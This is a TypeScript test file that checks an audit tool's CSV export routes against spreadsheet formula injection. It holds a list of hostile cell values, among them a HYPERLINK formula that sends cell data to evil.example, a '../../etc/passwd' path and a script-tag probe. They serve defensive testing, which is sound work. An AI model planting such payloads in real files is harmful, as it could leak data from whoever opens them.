import { globSync } from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import * as XLSX from '@e965/xlsx';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { ingestUpload } from '@/lib/ingest/upload';
import { makeReportRun } from '@/lib/package/report-runs/make';
import { runOnce } from '@/lib/package/report-runs/request';
import { getReportRun } from '@/lib/package/report-runs/runs';
import { unguarded } from '@/lib/schemas/csv-cell';
import { ReportOnce } from '@/lib/schemas/report-definitions';
import { CsvKind } from '@/lib/schemas/reports';
import { ChainTable } from '@/lib/schemas/list-csv';
import { signedInAdmin, testActor } from '@/lib/testing/actor';
import { csvRows } from '@/lib/testing/csv-rows';
import { type TestInstallation, startInstallation } from '@/lib/testing/installation';
import { operationsOf } from './declaration';

const ROOT = path.resolve(import.meta.dirname, '../..');
const PERIOD = 'from=2026-01-01T00:00:00Z&to=2027-01-01T00:00:00Z';
const CHAIN = '=1+1,"chain" ü';
/** What tools and paths are called by somebody who means harm, and what spreadsheets make something else of. */
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  'a\n=1+1',
  'a\r\n@b\r\n+c',
  'a\rb',
  "'=quoted",
  "''@twice",
  '\uff1d1+1',
  '"',
  '""',
  'say "hi", then go',
  '",=1+1',
  'one,two',
  'one;two\tthree',
  'two\nlines',
  'two\r\nlines',
  '  blanks around  ',
  '00123',
  '1e5',
  '12/11',
  '2026-05-11',
  'TRUE',
  '#REF!',
  'ü 🤖 \u2028 naïve',
  '../../etc/passwd',
  '<script>alert(1)</script>',
];

type Handler = (request: Request, segment: { params: Promise<Record<string, string>> }) => Promise<Response>;
type Asked = { params?: Record<string, string>; query?: string };

/** Every route that answers with a table, and what it is asked for; `kept`: files of reports, which are made below. */
const TABLES: Record<string, () => Promise<Asked[]> | Asked[] | 'kept'> = {
  'app/api/v1/activity.csv/route.ts': () => [{}],
  'app/api/v1/attestations.csv/route.ts': () => [{}],
  'app/api/v1/chains.csv/route.ts': () => [{}],
  'app/api/v1/chains/[chainId]/tables/[file]/route.ts': () =>
    ChainTable.options.map((table) => ({ params: { chainId, file: `${table}.csv` } })),
  'app/api/v1/control-evidence/[framework]/controls.csv/route.ts': () => [
    { params: { framework: 'nist-800-53' }, query: PERIOD },
  ],
  'app/api/v1/events.csv/route.ts': () => [{ query: PERIOD }],
  'app/api/v1/findings.csv/route.ts': () => [{}],
  'app/api/v1/findings/[findingId]/records.csv/route.ts': async () => [{ params: { findingId: await findingId() } }],
  'app/api/v1/report-runs/[runId]/files/[file]/route.ts': () => 'kept',
  'app/api/v1/reports/[file]/route.ts': () =>
    CsvKind.options.map((kind) => ({ params: { file: `${kind}.csv` }, query: PERIOD })),
  'app/api/v1/rules/[ruleId]/runs.csv/route.ts': async () => [{ params: { ruleId: await ruleId() } }],
  'app/api/v1/shared/files/[file]/route.ts': () => 'kept',
};

let installation: TestInstallation;
let chainId = '';
let cookie = '';
beforeAll(async () => {
  installation = await startInstallation({}, { rules: 'one' });
  const { ctx } = installation;
  Object.assign(globalThis, { sealtrailContext: Promise.resolve(ctx) }); // what `context()` gives
  await installation.work();
  cookie = await signedInAdmin(ctx);
  ({ chainId } = await ingestUpload(ctx, {
    fileName: 'log.jsonl',
    chain: CHAIN,
    body: Readable.from([Buffer.from(`${hostileLog().join('\n')}\n`)]),
    actor: testActor(),
  }));
  await installation.settled(chainId);
  await findingId();
}, 240_000);
afterAll(() => installation?.stop());

/** A log of Occasio whose tools and paths are the payloads, all denied in one session, as one burst. */
function hostileLog(): string[] {
  let head = '0'.repeat(64);
  return PAYLOADS.map((payload, n) => {
    const record = {
      audit_schema: 1,
      ts: new Date(Date.UTC(2026, 4, 11, 8, 0, n)).toISOString(),
      event_id: `e${n}`,
      session_id: 'session-1',
      run_id: 'session-1',
      agent: '=agent()',
      protocol: 'mcp',
      direction: 'inbound',
      kind: 'tool_call',
      tool_name: payload,
      tool_inputs: { path: payload },
      action: 'BLOCK',
      reason: payload,
      prev_hash: head,
    };
    head = installation.ctx.hasher.sha256(Buffer.from(JSON.stringify(record)));
    return JSON.stringify({ ...record, hash: head });
  });
}

async function findingId(): Promise<string> {
  return vi.waitUntil(
    async () => (await installation.ctx.db.selectFrom('findings').select('id').executeTakeFirst())?.id,
    { timeout: 60_000, interval: 200 },
  );
}
async function ruleId(): Promise<string> {
  const { rule_id: id } = await installation.ctx.db.selectFrom('findings').select('rule_id').executeTakeFirstOrThrow();
  return id;
}

async function get(file: string, { params = {}, query = '' }: Asked): Promise<Buffer> {
  const { GET } = (await import(path.join(ROOT, file))) as { GET: Handler }; // a route that answers
  const url = `http://127.0.0.1:7325/x?${query}`;
  const answer = await GET(new Request(url, { headers: { cookie } }), { params: Promise.resolve(params) });
  const bytes = Buffer.from(await answer.arrayBuffer());
  expect([file, answer.status, answer.status === 200 ? '' : bytes.toString()]).toEqual([file, 200, '']);
  expect(answer.headers.get('content-type')).toContain('text/csv');
  return bytes;
}

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** The cells as two readers of other people have them, one of them that of a spreadsheet; both must have the same. */
function readByOthers(bytes: Buffer): string[][] {
  const text = bytes.toString('utf8');
  const { data, errors } = Papa.parse<string[]>(text.replace(/\r\n$/, ''), { delimiter: ',', newline: '\r\n' });
  expect(errors).toEqual([]);
  // Of bytes without a mark a spreadsheet has to be told the encoding, as the answer does.
  const isMarked = bytes.subarray(0, 3).equals(BOM);
  const { Sheets, SheetNames } = XLSX.read(isMarked ? bytes : text, {
    type: isMarked ? 'buffer' : 'string',
    raw: true,
    FS: ',',
  });
  const sheet = Sheets[SheetNames[0] ?? ''];
  const cells = XLSX.utils.sheet_to_json<string[]>(sheet ?? {}, { header: 1, defval: '', raw: true, blankrows: true });
  for (const cell of Object.values(sheet ?? {}))
    if (typeof cell === 'object' && cell !== null && 'f' in cell) throw new Error(`a formula: ${JSON.stringify(cell)}`);
  const [head = []] = data;
  const padded = cells.map((row) => head.map((_, at) => String(row[at] ?? '')));
  const own = csvRows(text.replace(/^\ufeff/, ''));
  expect(data.map((row, at) => (at === 0 ? row.map((cell) => cell.replace(/^\ufeff/, '')) : row))).toEqual(own);
  expect(padded).toEqual(own);
  return own;
}

const rowsOf = ([head = [], ...rows]: string[][]) =>
  rows.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at] ?? ''])));

/** Of tables that name the records of the log: how many there are, and the cells that are not what went in once the guard is taken away. */
function payloadsIn(rows: readonly Record<string, string>[]): { records: number; others: string[] } {
  const named = rows.flatMap(({ ordinal, tool, target }) => {
    const payload = PAYLOADS[Number(ordinal)];
    return ordinal === undefined || tool === undefined || payload === undefined
      ? []
      : [{ payload, cells: target === undefined ? [tool] : [tool, target] }];
  });
  return {
    records: named.length,
    others: named.flatMap(({ payload, cells }) => cells.filter((cell) => unguarded(cell) !== payload)),
  };
}

/** Tables that say what is so now, or that a table was just taken away: another time they have other rows. */
const OF_THE_MOMENT = [
  'app/api/v1/activity.csv/route.ts',
  'app/api/v1/control-evidence/[framework]/controls.csv/route.ts',
];

/** What a spreadsheet would run. */
const RUNS = /(?:^|[\r\n])[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
const isNumber = (cell: string) => /^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell);

it('knows every route that answers with a table', async () => {
  const found = [];
  for (const file of globSync('app/**/route.ts', { cwd: ROOT }).toSorted()) {
    const { GET } = (await import(path.join(ROOT, file))) as { GET?: Handler }; // as Next reads it
    const operations = GET ? (operationsOf(GET) ?? []) : [];
    const types = operations.flatMap(({ answers = {} }) => Object.values(answers).flatMap(({ types: of = [] }) => of));
    if (types.includes('text/csv')) found.push(file);
  }
  expect(found).toEqual(Object.keys(TABLES).toSorted());
});

describe.each(Object.entries(TABLES))('%s', (file, asked) => {
  it('is read back by a parser and by a spreadsheet as it was written, with and without a byte order mark', async () => {
    const all = await asked();
    for (const one of all === 'kept' ? [] : all) {
      const plain = await get(file, one);
      const marked = await get(file, { ...one, query: `${one.query ?? ''}&bom=1` });
      expect(plain.subarray(0, 3).equals(BOM)).toBe(false);
      expect(marked.subarray(0, 3).equals(BOM)).toBe(true);
      const cells = readByOthers(plain);
      const again = readByOthers(marked);
      expect(OF_THE_MOMENT.includes(file) ? again[0] : again).toEqual(OF_THE_MOMENT.includes(file) ? cells[0] : cells);
      expect(cells.flat().filter((cell) => RUNS.test(cell) && !isNumber(cell))).toEqual([]);
      expect(payloadsIn(rowsOf(cells)).others).toEqual([]);
    }
  });
});

it.each([
  ['events.csv', 'app/api/v1/events.csv/route.ts', { query: PERIOD }],
  ['access-log.csv', 'app/api/v1/reports/[file]/route.ts', { params: { file: 'access-log.csv' }, query: PERIOD }],
  ['blocked.csv', 'app/api/v1/reports/[file]/route.ts', { params: { file: 'blocked.csv' }, query: PERIOD }],
])('%s has every payload', async (_, file, asked) => {
  expect(payloadsIn(rowsOf(readByOthers(await get(file, asked))))).toEqual({ records: PAYLOADS.length, others: [] });
});

describe.each([
  ['governance', {}, true],
  ['usage', { kind: 'usage' }, true],
  ['integrity', { kind: 'integrity' }, false],
  ['controls', { kind: 'controls', framework: 'soc-2' }, false],
  ['incident', { kind: 'incident', period: { of: 'findings' } }, true],
] as const)('a kept report of %s', (kind, definition, namesTools) => {
  it.each([true, false])('has tables that others read back (byte order mark: %s)', async (bom) => {
    const { ctx } = installation;
    const { id: runId } = await runOnce(ctx, {
      ...ReportOnce.parse({
        period: { of: 'days', firstDay: '2026-01-01', lastDay: '2026-12-31' },
        bom,
        ...definition,
        ...(kind === 'incident' && { incident: { findingIds: [await findingId()] } }),
      }),
      actor: testActor(),
    });
    await vi.waitUntil(
      async () => {
        await makeReportRun(ctx, { runId, actor: testActor('worker') }, new AbortController().signal);
        return (await getReportRun(ctx, { runId })).state === 'done';
      },
      { timeout: 60_000, interval: 100 },
    );
    const tables = (await getReportRun(ctx, { runId })).files.filter(({ path: file }) => file.endsWith('.csv'));
    expect(tables.length).toBeGreaterThan(0);
    const found: string[] = [];
    for (const { path: file, rows } of tables) {
      const route = 'app/api/v1/report-runs/[runId]/files/[file]/route.ts';
      const bytes = await get(route, { params: { runId, file } });
      expect([file, bytes.subarray(0, 3).equals(BOM)]).toEqual([file, bom]);
      const cells = readByOthers(bytes);
      expect([file, cells.length - 1]).toEqual([file, rows]);
      expect(cells.flat().filter((cell) => RUNS.test(cell) && !isNumber(cell))).toEqual([]);
      expect(payloadsIn(rowsOf(cells)).others).toEqual([]);
      found.push(...rowsOf(cells).flatMap(({ tool }) => (tool === undefined ? [] : [unguarded(tool)])));
    }
    expect(new Set(found)).toEqual(new Set(namesTools ? PAYLOADS : []));
  });
});
